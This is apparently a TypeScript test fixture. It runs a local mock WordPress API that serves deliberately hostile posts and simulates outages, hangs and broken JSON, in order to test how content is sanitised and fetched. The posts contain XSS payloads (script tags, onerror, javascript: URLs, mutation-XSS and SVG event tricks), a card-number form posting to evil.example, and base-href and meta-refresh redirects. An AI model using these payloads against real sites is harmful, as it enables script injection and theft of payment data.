import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

const RUN = 'window.__hit=1';
const LONG = 'Systematic investment plans and step-ups explained at length '.repeat(8).slice(0, 480);

/** Posts as a careless or hostile editor would leave them, some harsher than any that was recorded. */
const POSTS = [
  ['plain', 'A plain article', '<h2>One</h2><p>Text.</p><h2>Two</h2><p>More.</p>'],
  [
    'script',
    '<script>window.__hit=1</script>Script in the title',
    `<p>before</p><script>${RUN}</script><img src=x onerror="${RUN}"><p>after script</p>`,
  ],
  [
    'links',
    'Links',
    `<p><a href="javascript:${RUN}">a</a><a href="data:text/html,<script>${RUN}</script>">b</a><a href="https://example.com/">good link</a></p>`,
  ],
  [
    'form',
    'Form',
    '<form action="https://evil.example/"><label>PAN <input name="pan"></label><button>Pay now</button></form><p>after form</p>',
  ],
  [
    'style',
    'Style',
    '<style>header,main{display:none!important}</style><p style="position:fixed;inset:0;z-index:99" id="main">after style</p>',
  ],
  [
    'head',
    'Head',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><p>after head</p>',
  ],
  [
    'frames',
    'Frames',
    `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe><iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ"></iframe><p>after frames</p>`,
  ],
  [
    'mutation',
    'Mutation',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"><p>after mutation</p>`,
  ],
  [
    'svg',
    'Svg',
    `<svg><animate onbegin="${RUN}" attributeName=x></animate><foreignObject><body onload="${RUN}"></foreignObject></svg><p>after svg</p>`,
  ],
  [
    'wide',
    'Wide',
    `<table><tr>${'<td>unbreakable-cell</td>'.repeat(30)}</tr></table><pre>${'x'.repeat(900)}</pre><p>${'W'.repeat(900)}</p>`,
  ],
  ['long-title', LONG, '<p>Body of the long title.</p>'],
  ['no-title', '', '<p>Body of no title.</p>'],
  ['no-body', 'No body', ''],
  ['%e0%a4%8f%e0%a4%95', 'म्यूचुअल फंड सही है? 🚀', '<p>निवेश से पहले दस्तावेज़ ध्यान से पढ़ें।</p>'],
  [
    'entities',
    '&lt;b&gt;Bold&lt;/b&gt; &amp; &#8220;quoted&#8221;',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; stays text</p>',
  ],
  ['large', 'Large', `<p>${'A long paragraph. '.repeat(11_500)}</p>`],
].map(([slug = '', title = '', content = ''], place) => ({
  id: place + 1,
  slug,
  date: `2026-05-${String(28 - place).padStart(2, '0')}T10:00:00`,
  status: 'publish',
  title: { rendered: title },
  content: { rendered: content, protected: false },
  excerpt: { rendered: content.slice(0, 200), protected: false },
}));

export type Mood = 'hostile' | 'down' | 'hang' | 'drip' | 'broken';

export interface HostileWordPress {
  url: string;
  posts: typeof POSTS;
  /** What it does from now on. */
  mood: Mood;
  /** Moods in which somebody has waited for an answer until they gave it up. */
  waitedFor: Set<Mood>;
  close: () => void;
}

/** A WordPress that serves the posts above, or misbehaves as its mood says. */
export async function hostileWordPress(): Promise<HostileWordPress> {
  const server = createServer((request, response) => {
    if (request.url?.startsWith('/wp-json/wp/v2/posts')) answer(response, wordPress);
    else response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const wordPress: HostileWordPress = { url, posts: POSTS, mood: 'hostile', waitedFor: new Set(), close };
  return wordPress;
}

function answer(response: ServerResponse, { mood, waitedFor }: HostileWordPress): void {
  if (mood === 'hang' || mood === 'drip') response.on('close', () => waitedFor.add(mood));
  if (mood === 'hang') return;
  const json = { 'content-type': 'application/json', 'x-wp-total': String(POSTS.length), 'x-wp-totalpages': '1' };
  if (mood === 'hostile') response.writeHead(200, json).end(JSON.stringify(POSTS));
  if (mood === 'down')
    response.writeHead(500, { 'content-type': 'text/html' }).end('<h1>Error establishing a database connection</h1>');
  if (mood === 'broken') response.writeHead(200, json).end('[{"id":1,');
  if (mood === 'drip') {
    response.writeHead(200, json);
    const drip = setInterval(() => response.write(' '), 100);
    response.on('close', () => clearInterval(drip));
  }
}
